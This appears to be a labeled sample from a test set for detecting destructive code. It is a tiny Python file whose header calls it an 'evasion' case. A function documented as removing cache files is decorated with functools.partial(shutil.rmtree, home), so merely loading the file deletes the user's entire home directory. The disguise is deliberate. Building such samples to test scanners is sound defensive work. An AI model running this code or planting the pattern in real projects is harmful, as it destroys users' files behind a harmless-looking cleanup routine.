# evasion: a decorator built by functools.partial deletes the home directory
# grade: medium; does: delete
import functools
import os
import shutil

home = os.path.expanduser("~")


@functools.partial(shutil.rmtree, home)
def cleanup():
    """Remove cache files."""
